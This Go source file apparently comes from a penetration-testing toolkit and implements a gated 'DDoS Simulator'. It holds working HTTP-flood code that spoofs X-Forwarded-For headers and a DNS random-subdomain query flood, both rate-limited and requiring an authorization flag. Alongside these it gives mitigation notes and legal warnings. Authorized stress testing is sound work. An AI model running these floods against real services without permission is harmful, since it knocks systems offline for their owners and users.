package network

import (
	"context"
	"fmt"
	"math"
	"math/rand"
	"net"
	"net/http"
	"strings"
	"sync/atomic"
	"time"

	"github.com/CodeMonkeyCybersecurity/pantest/internal/core"
	"github.com/CodeMonkeyCybersecurity/pantest/internal/guard"
	"github.com/CodeMonkeyCybersecurity/pantest/internal/httpclient"
	"github.com/CodeMonkeyCybersecurity/pantest/internal/params"
	"github.com/CodeMonkeyCybersecurity/pantest/internal/ratelimit"
	"github.com/CodeMonkeyCybersecurity/pantest/internal/resolver"
	"github.com/CodeMonkeyCybersecurity/pantest/internal/worker"
	"github.com/CodeMonkeyCybersecurity/pantest/pkg/types"
)

const simulationDisclaimer = "EDUCATIONAL/AUTHORIZED TESTING ONLY - Unauthorized DDoS attacks are illegal"

var attackTypes = []string{"http", "syn", "udp", "dns", "slowloris"}

// AttackAnalysis describes an attack class for the report.
type AttackAnalysis struct {
	Description     string   `json:"description"`
	Layer           string   `json:"layer"`
	Detection       string   `json:"detection"`
	Mitigation      []string `json:"mitigation"`
	Effectiveness   string   `json:"effectiveness"`
	DamagePotential string   `json:"damage_potential"`
}

var attackAnalyses = map[string]AttackAnalysis{
	"HTTP_FLOOD": {
		Description: "Floods target with HTTP requests to consume bandwidth and resources",
		Layer:       "7 (Application)",
		Detection:   "High request rate from single/multiple sources",
		Mitigation: []string{
			"Rate limiting", "CAPTCHA challenges", "DDoS protection services",
			"Geo-blocking if appropriate", "Traffic filtering",
		},
		Effectiveness:   "High on unprotected servers, Low on protected infrastructure",
		DamagePotential: "Service degradation or complete unavailability",
	},
	"DNS_FLOOD": {
		Description: "Floods target DNS server with queries causing DNS service degradation",
		Layer:       "3/4 (Network Transport)",
		Detection:   "Unusually high DNS query rate",
		Mitigation: []string{
			"Rate limiting on DNS queries", "DNS amplification protection",
			"GeoDNS filtering", "Anycast networks", "DDoS mitigation services",
		},
		Effectiveness:   "High on small DNS servers, Low on major providers",
		DamagePotential: "DNS resolution failures, domain inaccessibility",
	},
	"SLOWLORIS": {
		Description: "Opens many connections and keeps them open as long as possible",
		Layer:       "7 (Application)",
		Detection:   "Many slow, incomplete HTTP requests",
		Mitigation: []string{
			"Connection timeouts", "Request body size limits", "Module updates (Apache, nginx)",
			"Load balancers with rate limiting", "Reverse proxy with timeout settings",
		},
		Effectiveness:   "High on Apache, Low on nginx/modern servers",
		DamagePotential: "Connection pool exhaustion, service unavailability",
	},
	"SYN_FLOOD": {
		Description: "Sends TCP SYN packets without completing the handshake to fill the backlog",
		Layer:       "4 (Transport)",
		Detection:   "Large number of half-open connections",
		Mitigation: []string{
			"SYN cookies", "Backlog tuning", "Upstream scrubbing", "Firewall SYN rate limits",
		},
		Effectiveness:   "High on hosts without SYN cookies",
		DamagePotential: "New TCP connections refused",
	},
	"UDP_FLOOD": {
		Description: "Sends high volumes of UDP datagrams to random ports",
		Layer:       "3/4 (Network Transport)",
		Detection:   "Spike in ICMP port unreachable replies and inbound UDP volume",
		Mitigation: []string{
			"Upstream filtering", "ICMP rate limiting", "Anycast absorption", "DDoS mitigation services",
		},
		Effectiveness:   "Depends on available bandwidth",
		DamagePotential: "Link saturation",
	},
}

var simulationNotes = []string{
	"This simulation demonstrates attack principles",
	"Real attacks use much higher request volumes",
	"Modern DDoS attacks use botnets and amplification",
	"Understanding DDoS helps in defense strategies",
	"Always have proper DDoS mitigation in place",
	"Use this knowledge only for authorized testing",
	"Coordinate with your ISP for large-scale testing",
}

var legalWarning = []string{
	"Unauthorized DDoS attacks are federal crimes (CFAA in US)",
	"Can result in imprisonment and fines",
	"Only perform authorized testing with written permission",
	"Document all testing and authorization",
}

type DDoSTool struct {
	core.Base
	env *core.Env
}

type ddosParams struct {
	Target     string `param:"target"`
	Type       string `param:"type"`
	Duration   int    `param:"duration"`
	Threads    int    `param:"threads"`
	Authorized bool   `param:"authorized"`
}

func NewDDoS(env *core.Env) core.Tool {
	env = core.Ensure(env)
	return &DDoSTool{
		Base: core.NewBase(types.ToolMetadata{
			Name:            "DDoS Simulator",
			Category:        types.CategoryNetwork,
			Version:         "2.0.0",
			Description:     "Simulates DDoS traffic patterns under strict caps for authorized testing",
			Usage:           "pantest run ddos-sim --target example.com --type http --duration 30 --threads 5 --authorized",
			Requirements:    []string{"written authorization from the target owner"},
			Tags:            []string{"ddos", "attack", "network", "testing"},
			RiskLevel:       types.RiskHigh,
			LegalDisclaimer: simulationDisclaimer,
		}, env.Log()),
		env: env,
	}
}

func (t *DDoSTool) parse(p params.Params) (ddosParams, error) {
	dp := ddosParams{Duration: guard.DefaultSimulationSeconds, Threads: guard.DefaultSimulationThreads}
	if err := params.Require(p, "target", "type"); err != nil {
		return dp, err
	}
	if err := params.Decode(p, &dp); err != nil {
		return dp, err
	}
	dp.Type = strings.ToLower(dp.Type)
	if err := params.OneOf("type", dp.Type, attackTypes...); err != nil {
		return dp, err
	}
	if !validTarget(dp.Target) {
		return dp, types.NewError(types.KindValidation, "target %q is not a valid URL, host or host:port", dp.Target)
	}
	if dp.Duration < 0 {
		return dp, types.NewError(types.KindValidation, "duration must be positive")
	}
	if !dp.Authorized {
		return dp, types.NewError(types.KindValidation,
			"authorization required: ddos-sim only runs with --authorized and written permission from the target owner")
	}
	dp.Threads = t.env.PoolSize(dp.Threads)
	return dp, nil
}

func validTarget(target string) bool {
	if params.IsURL(target) {
		return true
	}
	host := target
	if h, port, err := net.SplitHostPort(target); err == nil {
		if !params.IsPortString(port) {
			return false
		}
		host = h
	}
	return params.MustBeHost("target", host) == nil
}

func (t *DDoSTool) Validate(p params.Params) bool {
	return t.Check(func() error { _, err := t.parse(p); return err })
}

// simStats are updated concurrently by the workers.
type simStats struct {
	total, ok, failed int64
}

func (s *simStats) record(err error) {
	atomic.AddInt64(&s.total, 1)
	if err != nil {
		atomic.AddInt64(&s.failed, 1)
		return
	}
	atomic.AddInt64(&s.ok, 1)
}

func (s *simStats) snapshot(elapsed time.Duration) types.Record {
	total := atomic.LoadInt64(&s.total)
	rate := 0.0
	if secs := elapsed.Seconds(); secs > 0 {
		rate = math.Round(float64(total)/secs*100) / 100
	}
	return types.Record{
		"total_requests": total,
		"successful":     atomic.LoadInt64(&s.ok),
		"failed":         atomic.LoadInt64(&s.failed),
		"request_rate":   rate,
	}
}

func (t *DDoSTool) Run(ctx context.Context, p params.Params) types.Record {
	t.Begin()
	dp, err := t.parse(p)
	if err != nil {
		return t.Fail(err)
	}

	t.Log().LogSecurityEvent(ctx, "ddos_simulation_started", "high", map[string]interface{}{
		"target": dp.Target, "type": dp.Type, "duration": dp.Duration, "threads": dp.Threads,
	})

	var sim types.Record
	switch dp.Type {
	case "http":
		sim, err = t.httpFlood(ctx, dp)
	case "dns":
		sim, err = t.dnsFlood(ctx, dp)
	case "slowloris":
		sim = types.Record{
			"attack_type": "SLOWLORIS",
			"target":      dp.Target,
			"duration":    dp.Duration,
			"description": "Keeps connections open as long as possible by sending incomplete requests",
			"simulated":   true,
			"results":     types.Record{"connections_established": 0, "connections_held": dp.Threads},
			"impact":      "Server connection pool exhaustion, legitimate clients unable to connect",
		}
	default:
		sim = types.Record{
			"attack_type": strings.ToUpper(dp.Type),
			"target":      dp.Target,
			"note":        "Simulation mode - actual SYN/UDP flood requires raw sockets",
			"simulated":   true,
		}
	}
	if err != nil {
		return t.Fail(types.Wrap(types.KindTool, err, "simulation failed"))
	}

	kind := strings.ToUpper(dp.Type)
	if kind != "SLOWLORIS" {
		kind += "_FLOOD"
	}
	t.AddResult(types.Record{
		"timestamp":         types.Timestamp(t.env.Clock()),
		"disclaimer":        simulationDisclaimer,
		"target":            dp.Target,
		"attack_type":       strings.ToUpper(dp.Type),
		"duration":          dp.Duration,
		"threads":           dp.Threads,
		"attack_simulation": sim,
		"attack_analysis":   attackAnalyses[kind],
		"legal_warning":     legalWarning,
	})
	for _, note := range simulationNotes {
		t.AddRecommendation(note)
	}
	return types.Record{"target": dp.Target, "attack_type": strings.ToUpper(dp.Type), "simulation": sim["results"]}
}

func targetURL(target string) string {
	if params.IsURL(target) {
		return target
	}
	return "http://" + target
}

func randomIPv4(r *rand.Rand) string {
	return fmt.Sprintf("%d.%d.%d.%d", r.Intn(255)+1, r.Intn(256), r.Intn(256), r.Intn(256))
}

func (t *DDoSTool) httpFlood(ctx context.Context, dp ddosParams) (types.Record, error) {
	client, err := t.env.HTTPClient(func(c *httpclient.Config) {
		c.Timeout = 2 * time.Second
		c.FollowRedirects = false
	})
	if err != nil {
		return nil, err
	}
	url := targetURL(dp.Target)
	limiter := ratelimit.NewLimiter(ratelimit.SimulationConfig(dp.Threads))

	var stats simStats
	start := time.Now()
	if dp.Duration > 0 {
		pool := worker.New(dp.Threads, time.Duration(dp.Duration)*time.Second, t.Log())
		err = worker.Loop(ctx, pool, func(ctx context.Context, id int) error {
			if err := limiter.Wait(ctx); err != nil {
				return nil
			}
			r := rand.New(rand.NewSource(time.Now().UnixNano() + int64(id)))
			req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
			if err != nil {
				return err
			}
			req.Header.Set("User-Agent", "Mozilla/5.0 (Anonymous)")
			req.Header.Set("X-Forwarded-For", randomIPv4(r))
			resp, err := client.Do(req)
			if ctx.Err() != nil {
				return nil
			}
			httpclient.CloseBody(resp)
			stats.record(err)
			return nil
		})
	}
	if err != nil {
		return nil, err
	}
	elapsed := time.Since(start)

	return types.Record{
		"attack_type":  "HTTP_FLOOD",
		"target":       dp.Target,
		"duration":     dp.Duration,
		"threads":      dp.Threads,
		"results":      stats.snapshot(elapsed),
		"elapsed_time": math.Round(elapsed.Seconds()*100) / 100,
	}, nil
}

func (t *DDoSTool) dnsFlood(ctx context.Context, dp ddosParams) (types.Record, error) {
	domain := dp.Target
	if h, _, err := net.SplitHostPort(domain); err == nil {
		domain = h
	}
	if params.IsURL(domain) {
		domain = strings.TrimPrefix(strings.TrimPrefix(domain, "https://"), "http://")
		domain = strings.SplitN(domain, "/", 2)[0]
	}

	res := resolver.New(t.env.Endpoints.DNSServer, 2*time.Second)
	limiter := ratelimit.NewLimiter(ratelimit.SimulationConfig(dp.Threads))

	var stats simStats
	start := time.Now()
	if dp.Duration > 0 {
		pool := worker.New(dp.Threads, time.Duration(dp.Duration)*time.Second, t.Log())
		err := worker.Loop(ctx, pool, func(ctx context.Context, id int) error {
			if err := limiter.Wait(ctx); err != nil {
				return nil
			}
			r := rand.New(rand.NewSource(time.Now().UnixNano() + int64(id)))
			label := make([]byte, 10)
			for i := range label {
				label[i] = byte('a' + r.Intn(26))
			}
			recs, err := res.Query(ctx, string(label)+"."+domain, "A")
			if ctx.Err() != nil {
				return nil
			}
			if err == nil && len(recs) == 0 {
				err = fmt.Errorf("no answer")
			}
			stats.record(err)
			return nil
		})
		if err != nil {
			return nil, err
		}
	}
	elapsed := time.Since(start)

	results := stats.snapshot(elapsed)
	results["total_queries"] = results["total_requests"]
	return types.Record{
		"attack_type":  "DNS_FLOOD",
		"target":       domain,
		"duration":     dp.Duration,
		"results":      results,
		"elapsed_time": math.Round(elapsed.Seconds()*100) / 100,
	}, nil
}
